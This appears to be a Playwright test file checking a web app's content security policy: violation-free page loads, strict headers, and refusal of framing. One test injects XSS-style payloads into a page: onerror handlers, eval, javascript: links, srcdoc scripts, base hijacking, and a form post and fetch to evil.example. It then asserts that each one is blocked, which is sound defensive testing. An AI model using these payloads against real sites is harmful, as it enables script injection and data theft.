import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildParts } from "../scripts/build.ts";
import { staleParts } from "../scripts/build-state.mjs";
import { hasBrowser, openBrowser } from "./browser.ts";
import { type ControllerProcess, startController } from "./controller-process.ts";
import { pages } from "./pages.ts";

const email = "ada@example.com";
const password = "three plain words here";

/** Runs in the page before its own scripts. */
const watch = `
  globalThis.violations = [];
  globalThis.ran = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    violations.push([event.effectiveDirective, event.blockedURI, event.sourceFile, event.lineNumber, event.sample].join(" ")));
`;

/** What somebody would try who can put something into a page. */
const inject = `(async () => {
  // The debugger may use eval, and only until its own call has returned.
  await new Promise((resolve) => setTimeout(resolve, 10));
  const refused = [];
  const attempt = (name, work) => {
    try {
      work();
    } catch {
      refused.push(name);
    }
  };
  const mark = (name) => "globalThis.ran.push('" + name + "')";
  attempt("innerHTML", () => (document.createElement("div").innerHTML = "<img src=x onerror=" + mark("innerHTML") + ">"));
  attempt("script text", () => {
    const script = document.createElement("script");
    script.append(mark("script text"));
    document.body.append(script);
  });
  attempt("script src", () => (document.createElement("script").src = "https://evil.example/x.js"));
  attempt("eval", () => (0, eval)(mark("eval")));
  attempt("Function", () => new Function(mark("Function"))());
  attempt("timer", () => setTimeout(mark("timer"), 0));
  attempt("policy", () => trustedTypes.createPolicy("anything", {}));
  attempt("default policy", () => trustedTypes.createPolicy("default", { createHTML: (text) => text }));
  const add = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) attempt(tag + " " + name, () => element.setAttribute(name, value));
    document.body.append(element);
    return element;
  };
  add("img", { src: "/nothing.png", onerror: mark("handler") });
  add("a", { href: "javascript:" + mark("javascript:") }).click();
  add("iframe", { src: "https://evil.example/" });
  add("iframe", { srcdoc: "<script>parent." + mark("srcdoc").slice(11) + "</script>" });
  add("object", { data: "https://evil.example/" });
  add("base", { href: "https://evil.example/" });
  add("style", {}).textContent = "body{display:none}";
  add("form", { action: "https://evil.example/", method: "post" }).submit();
  // Markup that came past everything, parsed by a document without policy of its own and moved here.
  const foreign = new DOMParser();
  attempt("DOMParser", () => document.body.append(...foreign.parseFromString("<img src=y onerror=" + mark("parsed") + ">", "text/html").body.children));
  const leak = await fetch("https://evil.example/?x").then(() => "sent", () => "refused");
  await new Promise((resolve) => setTimeout(resolve, 500));
  return {
    ran,
    refused,
    leak,
    base: document.baseURI.startsWith(location.origin),
    shown: getComputedStyle(document.body).display !== "none",
    kinds: [...new Set(violations.map((text) => text.split(" ")[0]))],
    path: location.pathname,
  };
})()`;

interface Outcome {
  readonly ran: string[];
  readonly refused: string[];
  readonly leak: string;
  readonly base: boolean;
  readonly shown: boolean;
  readonly kinds: string[];
  readonly path: string;
}

describe.skipIf(!hasBrowser)("the content security policy in a browser", () => {
  let controller: ControllerProcess;
  let browser: Browser;
  let page: Page;
  const said: string[] = [];
  beforeAll(async () => {
    const stale = staleParts().filter((part) => part === "web" || part === "controller");
    if (stale.length > 0) await buildParts(stale);
    controller = await startController({ agents: 1, env: { DEVFLOW_ADMIN_EMAIL: email, DEVFLOW_ADMIN_PASSWORD: password } });
    browser = await openBrowser();
    const context = await browser.newContext({ baseURL: controller.url });
    await context.addInitScript(watch);
    page = await context.newPage();
    page.on("console", (message) => {
      if (/content security policy|trusted ?(html|script|types)|refused to|violates/i.test(message.text())) said.push(message.text());
    });
    page.on("pageerror", (error) => said.push(error.message));
  });
  afterAll(async () => {
    await browser?.close();
    await controller?.stop();
  });

  const violations = () => page.evaluate<string[]>("violations");
  const settled = async () => {
    await page.locator("h1, form").first().waitFor();
    await page.locator("[aria-busy=true], .skeleton").first().waitFor({ state: "detached" });
  };
  const visit = async (path: string) => {
    await page.goto(path);
    await settled();
    // Charts, lazy parts and the live connection come behind the first paint.
    await page.waitForTimeout(150);
    expect([path, await violations(), said]).toEqual([path, [], []]);
  };

  it("is kept by every page: sign-in, servers, a server, settings, the invitation, the command line's", { timeout: 300_000 }, async () => {
    for (const path of ["/sign-in", "/invite", "/cli-login", "/setup"]) await visit(path);
    await page.goto("/sign-in");
    await page.getByLabel("E-mail").fill(email);
    await page.getByLabel("Password").fill(password);
    await page.keyboard.press("Enter");
    await page.waitForURL("**/servers");
    const { items } = await controller.api.get<{ items: { id: string }[] }>("/api/v1/servers");
    expect(items.length).toBeGreaterThan(0);
    for (const path of [...pages, `/servers/${items[0]!.id}`, "/cli-login?code=ABCD-EFGH", "/invite#x"]) await visit(path);
    // What opens over pages: the palette, a dialogue.
    await page.goto("/servers");
    await settled();
    await page.keyboard.press("Control+k");
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("Escape");
    expect([await violations(), said]).toEqual([[], []]);
  });

  it("is a strict header, on pages and on what is none", async () => {
    const directives = async (path: string) => {
      const policy = (await page.request.get(path)).headers()["content-security-policy"] ?? "";
      expect([
        path,
        policy.includes("unsafe-inline"),
        policy.includes("unsafe-eval"),
        /script-src[^;]*(\*|https?:|data:)/.test(policy),
      ]).toEqual([path, false, false, false]);
      return new Map(policy.split(";").map((part) => [part.trim().split(" ")[0]!, part.trim().split(" ").slice(1).join(" ")]));
    };
    const ofPage = await directives("/servers");
    expect(Object.fromEntries(ofPage)).toMatchObject({
      "default-src": "'self'",
      "object-src": "'none'",
      "base-uri": "'none'",
      "form-action": "'self'",
      "frame-ancestors": "'none'",
      "connect-src": "'self'",
      "require-trusted-types-for": "'script'",
      "trusted-types": "svelte-trusted-html",
    });
    for (const path of ["/api/docs", "/api/v1/me", "/nothing.js", "/robots.txt"]) {
      const policy = await directives(path);
      expect([path, policy.get("default-src"), policy.get("frame-ancestors"), policy.get("base-uri")]).toEqual([
        path,
        "'none'",
        "'none'",
        "'none'",
      ]);
    }
  });

  it("runs /api/docs without a violation", async () => {
    await page.goto("/api/docs");
    await page.locator("h1").waitFor();
    await page.locator("summary").first().click();
    expect([await violations(), said]).toEqual([[], []]);
  });

  it("runs nothing that was injected: scripts, handlers, addresses, frames, forms, text as code", async () => {
    await page.goto("/servers");
    await settled();
    // Put in through the debugger, which no policy binds; what it puts in is bound.
    const outcome = await page.evaluate<Outcome>(inject);
    expect(outcome).toMatchObject({ ran: [], leak: "refused", base: true, shown: true, path: "/servers" });
    for (const name of ["innerHTML", "script src", "eval", "Function", "timer", "DOMParser", "policy", "default policy"])
      expect(outcome.refused).toContain(name);
    for (const kind of ["base-uri", "connect-src", "form-action", "require-trusted-types-for", "trusted-types"])
      expect(outcome.kinds).toContain(kind);
    said.length = 0;
  });

  it("lets nobody put a page into a frame", async () => {
    const other = await browser.newContext();
    const host = await other.newPage();
    const problems: string[] = [];
    host.on("console", (message) => problems.push(message.text()));
    await host.setContent(`<iframe src="${controller.url}/sign-in"></iframe>`);
    await host.waitForTimeout(500);
    expect(problems.join("\n")).toMatch(/frame-ancestors|X-Frame-Options/);
    expect(await host.frames()[1]?.locator("form").count()).toBe(0);
    await other.close();
  });
});
